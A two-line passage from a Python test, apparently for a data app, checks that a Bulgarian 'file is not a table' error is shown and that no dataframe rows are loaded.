    assert "Файлът не е таблица" in app.error[0].value
    assert len(app.dataframe) == 0
